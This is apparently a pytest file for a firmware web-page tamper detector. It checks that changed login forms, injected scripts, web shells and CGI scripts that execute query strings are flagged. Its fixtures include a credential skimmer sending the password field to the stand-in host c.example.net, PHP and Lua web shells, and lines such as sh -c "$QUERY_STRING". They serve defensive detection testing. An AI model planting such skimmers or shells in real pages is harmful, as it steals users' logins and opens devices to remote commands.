"""Web pages of devices: forms, scripts, server code and new pages are told by what they do, and mere looks as mere looks."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trueware.explaining.detectors.web_pages import WebPages
from trueware.model.finding import Confidence, Severity

from .cases import case, findings, rules

WEB = "home/httpd/web/"
LOGIN = b"""<html><head><title>Maker</title><script src="md5.js?v=1"></script>
<script>function go() { document.forms[0].submit(); }</script></head><body onload="init()">
<form action=/boaform/formLogin method=POST><input name=username><input type=password name=password>
<input type=submit value="<% multilang("1"); %>"></form></body></html>
"""


def pages(before: bytes | None, after: bytes | None, name: str = "login.asp") -> list[str]:
    genuine = {} if before is None else {WEB + name: before}
    return rules(WebPages, case(genuine, {} if after is None else {WEB + name: after}))


def test_what_only_looks_different_is_said_to() -> None:
    (found,) = findings(WebPages, case({WEB + "a.asp": LOGIN}, {WEB + "a.asp": LOGIN.replace(b"Maker", b"Other")}))
    assert (found.rule, found.severity) == ("page-text-changed", Severity.LOW)
    assert (found.evidence[0].expected, found.evidence[0].found) == ("Maker", "Other")


@pytest.mark.parametrize(
    "change",
    [
        lambda page: page.replace(b"\n", b"\r\n"),
        lambda page: page.replace(b"function go() {", b"// goes\nfunction go()\n{"),
        lambda page: page.replace(b"md5.js?v=1", b"md5.js?v=2"),
        lambda page: page.replace(b"<body", b"<!-- <script>x()</script> --><body"),
        lambda page: page.replace(b"name=username", b"class=wide name=username"),
    ],
)
def test_pages_that_do_the_same_are_no_more_than_that(change: object) -> None:
    assert callable(change)
    assert pages(LOGIN, change(LOGIN)) == ["page-text-changed"]


def test_a_login_that_goes_to_another_machine() -> None:
    (found,) = findings(
        WebPages,
        case(
            {WEB + "a.asp": LOGIN}, {WEB + "a.asp": LOGIN.replace(b"/boaform/formLogin", b"http://login.example.net/x")}
        ),
    )
    assert (found.rule, found.severity, found.confidence) == ("login-form-redirected", Severity.HIGH, Confidence.HIGH)
    assert found.touches == ("host:login.example.net",)
    assert found.evidence[0].expected == "post /boaform/formLogin"


def test_a_login_that_goes_elsewhere_in_the_device() -> None:
    (found,) = findings(
        WebPages, case({WEB + "a.asp": LOGIN}, {WEB + "a.asp": LOGIN.replace(b"formLogin", b"formOther")})
    )
    assert (found.rule, found.severity) == ("login-form-redirected", Severity.MEDIUM)


@pytest.mark.parametrize(
    ("added", "confidence"),
    [
        (b'<script src="//cdn.example.net/x.js"></script>', Confidence.HIGH),
        (
            b"<script>new Image().src='http://c.example.net/?p='+document.forms[0].password.value</script>",
            Confidence.HIGH,
        ),
        (b'<script src="extra.js"></script>', Confidence.MEDIUM),
    ],
)
def test_code_put_into_a_login_page(added: bytes, confidence: Confidence) -> None:
    (found,) = findings(WebPages, case({WEB + "a.asp": LOGIN}, {WEB + "a.asp": LOGIN.replace(b"</body>", added)}))
    assert (found.rule, found.confidence) == ("login-script-added", confidence)


def test_code_of_pages_without_a_password() -> None:
    plain = b"<html><script>a()</script><p onclick='b()'>x</p></html>"
    assert pages(plain, plain.replace(b"a()", b"a(1)")) == ["page-script-changed"]
    assert pages(plain, plain.replace(b"b()", b"b(1)")) == ["page-script-changed"]
    assert pages(plain, plain + b"<iframe src=http://ads.example.net/></iframe>") == ["page-remote-code"]
    assert pages(plain, plain + b"<a href=http://maker.example.net/>help</a>") == ["page-text-changed"]


def test_scripts_in_files() -> None:
    genuine = b"function f(a) { return a + 1; }"
    assert pages(genuine, b"function f(a)\n{ return a + 1; /* one */ }", "share.js") == ["page-text-changed"]
    assert pages(genuine, b"function f(a) { return a + 2; }", "share.js") == ["page-script-changed"]
    stealing = genuine + b"fetch('http://c.example.net/' + document.getElementById('password').value)"
    (found,) = findings(WebPages, case({WEB + "md5.js": genuine}, {WEB + "md5.js": stealing}))
    assert found.rule == "login-script-added"
    assert found.touches == ("host:c.example.net",)


def test_names_of_namespaces_and_licences_are_no_contacts() -> None:
    naming = b"var ns = 'http://www.w3.org/2000/svg', field = 'password'; // https://jquery.org/license\n"
    (found,) = findings(WebPages, case({WEB + "x.js": b"var a"}, {WEB + "x.js": naming}))
    assert (found.rule, found.touches) == ("page-script-changed", ())


def test_fields_that_were_hidden_from_the_user() -> None:
    hidden = b"<form action=/vlan><input type=radio name=m value=0><!-- <input type=radio name=m value=2> --></form>"
    shown = hidden.replace(b"<!--", b"").replace(b"-->", b"")
    (found,) = findings(WebPages, case({WEB + "vlan.asp": hidden}, {WEB + "vlan.asp": shown}))
    assert (found.rule, found.severity, found.evidence[0].found) == ("page-form-changed", Severity.LOW, "radio m 2")


@pytest.mark.parametrize(
    ("name", "page"),
    [
        ("x.php", b"<html><?php system($_GET['c']); ?></html>"),
        ("x.php", b"<?php\n eval ( $_POST [ 0 ] ) ?>"),
        ("x.lp", b'<% io.popen(luci.http.formvalue("c")) %>'),
    ],
)
def test_pages_that_run_what_a_visitor_says(name: str, page: bytes) -> None:
    assert pages(None, page, name) == ["web-command-page"]
    assert pages(page, page + b" ", name) != ["web-command-page"]


@pytest.mark.parametrize(
    "page", [b"<?php echo $_GET['c']; ?>", b"<?php system('date'); ?>", b"<p>system($_GET['c'])</p>"]
)
def test_pages_that_do_not(page: bytes) -> None:
    assert "web-command-page" not in pages(None, page, "x.php")


def test_server_code_that_gives_a_visitors_words_to_a_command_by_a_variable() -> None:
    direct = b"<% local c = luci.http.formvalue('c') luci.sys.exec('ping ' .. c) %>"
    assert pages(None, direct, "x.htm") == ["web-command-page"]
    apart = b"<% local t = luci.http.formvalue('t') if t then show(t) end luci.sys.exec('uptime') %>"
    assert pages(None, apart, "x.htm") == ["page-added"]
    assert pages(b"<%:Status%>", b"<%:Status%> <%:More%> <%# note %>", "x.htm") == ["page-text-changed"]


@pytest.mark.parametrize(
    "line",
    [
        b'sh -c "$QUERY_STRING"',
        b"eval $QUERY_STRING",
        b"read -r line\n$line",
        b'c=$(echo "$QUERY_STRING" | sed s/+/x/)\n/bin/sh -c "$c"',
    ],
)
def test_scripts_of_the_server_that_run_what_a_visitor_says(line: bytes) -> None:
    script = b"#!/bin/sh\necho Content-Type: text/plain\necho\n" + line + b"\n"
    (found,) = findings(WebPages, case({}, {"www/cgi-bin/status": script}))
    assert (found.rule, found.severity) == ("web-command-page", Severity.HIGH)
    assert rules(WebPages, case({"www/cgi-bin/status": script}, {"www/cgi-bin/status": script + b"# more\n"})) == []


@pytest.mark.parametrize(
    "line",
    [b'echo "$QUERY_STRING"', b"eval $(cat /etc/settings)", b'[ -n "$QUERY_STRING" ] && uptime', b"sh -c uptime"],
)
def test_scripts_of_the_server_that_do_not(line: bytes) -> None:
    assert rules(WebPages, case({}, {"www/cgi-bin/status": b"#!/bin/sh\n" + line + b"\n"})) == []


def test_without_the_genuine_page_only_what_none_has() -> None:
    def alone(page: bytes) -> list[tuple[str, Confidence]]:
        one = case({WEB + "a.asp": b"genuine"}, {WEB + "a.asp": page}, at_hand=False)
        return [(each.rule, each.confidence) for each in findings(WebPages, one)]

    leaving = LOGIN.replace(b"/boaform/formLogin", b"http://login.example.net/x")
    assert alone(leaving) == [("login-form-redirected", Confidence.LOW)]
    telling = LOGIN.replace(
        b"go() {", b"go() { new Image().src = 'http://c.example.net/' + document.forms[0].password.value;"
    )
    assert alone(telling) == [("login-script-added", Confidence.LOW)]
    assert alone(LOGIN) == []
    assert alone(b"<a href=http://example.net/>help</a>") == []


def test_pages_that_were_added() -> None:
    diagnosis = b"<form action=/goform/cmd method=post><input name=cmd></form>"
    (found,) = findings(WebPages, case({}, {WEB + "hidden.asp": diagnosis}))
    assert found.rule == "page-added"
    assert found.detail.endswith("no changed page leads to it")
    menu = b"<ul><li><a href=status.asp>Status</a></ul>"
    led = case(
        {WEB + "menu.asp": menu},
        {WEB + "menu.asp": menu + b"<a href=/hidden.asp?x=1>More</a>", WEB + "hidden.asp": diagnosis},
    )
    assert [each.rule for each in findings(WebPages, led)] == ["page-text-changed", "page-added"]
    assert "menu.asp leads to it" in findings(WebPages, led)[-1].detail
    assert pages(None, b"<h1>Thanks</h1>", "thanks.html") == ["page-text-added"]
    assert pages(LOGIN, None) == ["page-removed"]


def test_server_code() -> None:
    assert pages(b"<% status(); %>", b"<% status(); other(); %>", "a.asp") == ["page-server-code-changed"]
    assert pages(b"<% status(); %>", b"<%  status();\n%>", "a.asp") == ["page-text-changed"]


def test_documents_and_apps_are_not_asked_about() -> None:
    assert rules(WebPages, case({}, {"usr/share/doc/x/index.html": LOGIN})) == []
    app = {"usr/apps/x/appinfo.json": b"{}", "usr/apps/x/index.html": LOGIN}
    assert rules(WebPages, case({}, app)) == []


@given(st.binary(max_size=300), st.binary(max_size=300))
def test_any_bytes_are_compared(before: bytes, after: bytes) -> None:
    for name in ("a.html", "a.js"):
        assert bool(pages(before, after, name)) == (before != after)


@given(st.text(alphabet="<>=/\"'% formscriptacndw\n", max_size=200))
def test_any_markup_is_compared(text: str) -> None:
    pages(LOGIN, LOGIN + text.encode())
